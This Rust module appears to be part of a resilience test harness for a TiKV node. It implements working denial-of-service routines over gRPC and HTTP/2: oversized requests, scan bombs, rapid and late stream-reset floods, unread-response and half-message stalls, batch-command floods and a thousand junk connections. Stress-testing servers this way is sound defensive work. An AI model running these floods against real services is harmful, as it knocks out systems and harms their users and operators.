//! The attacks: each does one thing that no client should, for a while or until it is let go of.
//!
//! **Not here.** How many of them at once, and what they may cost.

use crate::frames;
use crate::give_way::{AtEachStep, InPieces, at_each_step};
use bytes::Bytes;
use h2::SendStream;
use h2::client::{ResponseFuture, SendRequest};
use prost::Message;
use proto::kvrpcpb;
use proto::tikvpb::batch_commands_request::{Request as Command, request::Cmd};
use proto::tikvpb::tikv_client::TikvClient;
use proto::tikvpb::{BatchCommandsRequest, BatchCommandsResponse};
use std::io::Write;
use std::sync::Arc;
use std::time::{Duration, Instant};
use tokio::io::AsyncWriteExt;
use tokio::net::TcpStream;
use tonic::transport::{Channel, Endpoint};
use tonic::{Code, Streaming};

/// Those that go on for a while, for so long.
pub const EACH_ATTACK: Duration = Duration::from_secs(4);
/// Nearly what one answer may hold, 32 MiB.
const ANSWER_VALUES: u32 = 1_900;
const CONNECTIONS: usize = 1_000;

/// Where the attacks go.
#[derive(Clone)]
pub struct Victim {
    pub address: String,
    pub context: kvrpcpb::Context,
}

impl Victim {
    fn endpoint(&self) -> Endpoint {
        let endpoint = Endpoint::from_shared(format!("http://{}", self.address));
        let endpoint = endpoint.expect("host and port make a URL");
        endpoint.executor(AtEachStep)
    }

    pub fn store(&self) -> TikvClient<Channel> {
        TikvClient::new(self.endpoint().connect_lazy())
    }

    /// A connection on which answers are taken only if somebody asks for them.
    async fn bare(&self) -> SendRequest<Bytes> {
        self.speak(&h2::client::Builder::new()).await
    }

    /// One that lets the node say much before it asks.
    async fn greedy(&self) -> SendRequest<Bytes> {
        let mut settings = h2::client::Builder::new();
        settings.initial_window_size(2 << 20);
        settings.initial_connection_window_size(5 << 20);
        self.speak(&settings).await
    }

    async fn speak(&self, settings: &h2::client::Builder) -> SendRequest<Bytes> {
        let stream = TcpStream::connect(&self.address).await;
        let stream = InPieces(stream.expect("the node listens"));
        let spoken = settings.handshake(stream).await;
        let (requests, connection) = spoken.expect("it speaks HTTP/2");
        tokio::spawn(at_each_step(connection));
        requests.ready().await.expect("it takes a request")
    }

    /// A connection on which HTTP/2 has begun, and what comes next is bytes.
    async fn spoken_to(&self) -> TcpStream {
        let stream = TcpStream::connect(&self.address).await;
        let mut stream = stream.expect("the node listens");
        let _ = stream.set_nodelay(true);
        let _ = stream.write_all(&frames::beginning()).await;
        stream
    }

    /// Of so many values.
    pub fn scan(&self, limit: u32) -> kvrpcpb::RawScanRequest {
        kvrpcpb::RawScanRequest {
            context: Some(self.context),
            start_key: Bytes::from_static(b"bulk/"),
            limit,
            ..Default::default()
        }
    }

    fn get(&self) -> kvrpcpb::RawGetRequest {
        kvrpcpb::RawGetRequest {
            context: Some(self.context),
            key: bulk_key(7).into(),
            ..Default::default()
        }
    }
}

pub fn bulk_key(number: usize) -> String {
    format!("bulk/{number:06}")
}

/// Requests of 17 MiB, one after the other, each on a connection of its own.
pub async fn oversized(victim: Victim) -> u64 {
    let put = body(&kvrpcpb::RawPutRequest {
        context: Some(victim.context),
        key: Bytes::from_static(b"big"),
        value: vec![0; 17 << 20].into(),
        ..Default::default()
    });
    let (mut refused, until) = (0, Instant::now() + EACH_ATTACK);
    while Instant::now() < until {
        let mut requests = victim.greedy().await;
        let status = waste(&mut requests, "/tikvpb.Tikv/RawPut", put.clone()).await;
        assert!(status != Some(Code::Ok) && status != Some(Code::Internal));
        refused += 1;
    }
    refused
}

/// Scans of everything, and of as much as one answer may hold, again and again.
pub async fn scan_bomb(victim: Victim) -> u64 {
    let scans = [u32::MAX, ANSWER_VALUES].map(|limit| body(&victim.scan(limit)));
    let mut requests = victim.greedy().await;
    let (mut scanned, until) = (0, Instant::now() + EACH_ATTACK);
    while Instant::now() < until {
        for scan in &scans {
            // A status is an answer, too: the node has more to do than it takes at once.
            let status = waste(&mut requests, "/tikvpb.Tikv/RawScan", scan.clone()).await;
            assert!(status.is_some(), "the connection is gone");
        }
        scanned += 1;
    }
    scanned
}

/// Makes a call and throws the answer away; its status, if the connection lasts so long. A client that decoded what it
/// gets would have less time to ask.
async fn waste(requests: &mut SendRequest<Bytes>, path: &str, body: Bytes) -> Option<Code> {
    std::future::poll_fn(|cx| requests.poll_ready(cx))
        .await
        .ok()?;
    let (answer, mut stream) = requests.send_request(request(path), false).ok()?;
    stream.send_data(body, true).ok()?;
    let answer = answer.await.ok()?;
    let mut trailers = Some(answer.headers().clone());
    let mut content = answer.into_body();
    while let Some(piece) = content.data().await {
        let bytes = piece.ok()?.len();
        content.flow_control().release_capacity(bytes).ok()?;
    }
    if let Some(last) = content.trailers().await.ok()? {
        trailers = Some(last);
    }
    let status = trailers?.get("grpc-status")?.as_bytes().to_vec();
    Some(Code::from_bytes(&status))
}

/// What a call needs to be kept open.
pub type Open = (SendRequest<Bytes>, ResponseFuture, SendStream<Bytes>);

/// A call whose answer is not read, and that is not ended if there is more to say.
async fn call(mut requests: SendRequest<Bytes>, path: &str, said: Bytes) -> Option<Open> {
    let (answer, mut stream) = requests.send_request(request(path), false).ok()?;
    stream.send_data(said, false).ok()?;
    Some((requests, answer, stream))
}

fn request(path: &str) -> http::Request<()> {
    let request = http::Request::post(format!("http://node{path}"))
        .header("content-type", "application/grpc")
        .header("te", "trailers");
    request.body(()).expect("it is a request")
}

/// What a call says.
fn body(message: &impl Message) -> Bytes {
    let mut body = vec![0];
    body.extend((message.encoded_len() as u32).to_be_bytes());
    body.extend(message.encode_to_vec());
    body.into()
}

/// Calls that are taken back as soon as they are sent, all in one go: until the node has enough of it, and closes
/// the connection.
pub async fn rapid_resets(victim: Victim) -> u64 {
    let call = frames::call("/tikvpb.Tikv/RawGet", &victim.get());
    let (mut reset, until) = (0, Instant::now() + EACH_ATTACK);
    while Instant::now() < until {
        let mut stream = victim.spoken_to().await;
        for first in (0_u32..).step_by(100) {
            let burst: Vec<u8> = (first..first + 100)
                .flat_map(|number| [call.of(number), frames::reset(number)].concat())
                .collect();
            if Instant::now() > until || stream.write_all(&burst).await.is_err() {
                break;
            }
            reset += 100;
            // Its thread gives way at each step, of which this would else be a long one.
            tokio::task::yield_now().await;
        }
    }
    reset
}

/// Calls that are taken back one by one, so late that the node has begun with each.
pub async fn late_resets(victim: Victim) -> u64 {
    let call = frames::call("/tikvpb.Tikv/RawGet", &victim.get());
    let (mut reset, until) = (0, Instant::now() + EACH_ATTACK);
    while Instant::now() < until {
        let (mut answers, mut stream) = tokio::io::split(victim.spoken_to().await);
        let reader = tokio::spawn(at_each_step(async move {
            let _ = tokio::io::copy(&mut answers, &mut tokio::io::sink()).await;
        }));
        for number in 0_u32.. {
            if Instant::now() > until || stream.write_all(&call.of(number)).await.is_err() {
                break;
            }
            tokio::task::yield_now().await;
            if stream.write_all(&frames::reset(number)).await.is_err() {
                break;
            }
            reset += 1;
        }
        reader.abort();
    }
    reset
}

/// A scan with a large answer that nobody takes.
pub async fn unread_scan(victim: Victim) -> Option<Open> {
    let (requests, answer, mut stream) = call(
        victim.bare().await,
        "/tikvpb.Tikv/RawScan",
        body(&victim.scan(ANSWER_VALUES)),
    )
    .await?;
    stream.send_data(Bytes::new(), true).ok()?;
    Some((requests, answer, stream))
}

/// A request that ends in the middle of its message.
pub async fn half_said(victim: Victim) -> Option<Open> {
    let mut open = call(
        victim.bare().await,
        "/tikvpb.Tikv/RawPut",
        body(&victim.get()),
    )
    .await?;
    // The head of a second message, which is to have a mebibyte.
    open.2
        .send_data(Bytes::from_static(&[0, 0, 16, 0, 0, 1, 2, 3]), false)
        .ok()?;
    Some(open)
}

/// What a stream says: a flood of commands, in a hundred messages.
pub fn flood(victim: &Victim) -> Arc<[Bytes]> {
    let command = Command {
        cmd: Some(Cmd::RawGet(victim.get())),
    };
    let batch = |number: u64| BatchCommandsRequest {
        requests: vec![command.clone(); 200],
        request_ids: (number * 200..(number + 1) * 200).collect(),
    };
    (0..100).map(|number| body(&batch(number))).collect()
}

/// A stream with a flood of commands whose answers nobody takes.
pub async fn unread_batches(victim: Victim, flood: Arc<[Bytes]>) -> Option<Open> {
    let path = "/tikvpb.Tikv/BatchCommands";
    let mut open = call(victim.bare().await, path, flood[0].clone()).await?;
    for said in &flood[1..] {
        tokio::task::yield_now().await;
        // It waits here in this process once the node takes no more.
        open.2.send_data(said.clone(), false).ok()?;
    }
    Some(open)
}

/// A stream on which nothing is ever said.
pub async fn silent_stream(
    mut store: TikvClient<Channel>,
) -> Option<Streaming<BatchCommandsResponse>> {
    let nothing = tokio_stream::pending::<BatchCommandsRequest>();
    let opened = tokio::time::timeout(Duration::from_secs(2), store.batch_commands(nothing));
    opened.await.ok()?.ok().map(tonic::Response::into_inner)
}

/// Connections that say nothing, the beginning of something, or nonsense.
pub fn connections(address: &str) -> Vec<std::net::TcpStream> {
    let words: [&[u8]; 4] = [b"", b"PRI * HTTP/2.0\r\n\r\nSM", b"GET / HT", &[0xff; 64]];
    let connect = |number: usize| {
        let mut stream = std::net::TcpStream::connect(address).ok()?;
        stream.write_all(words[number % words.len()]).ok()?;
        Some(stream)
    };
    (0..CONNECTIONS).filter_map(connect).collect()
}
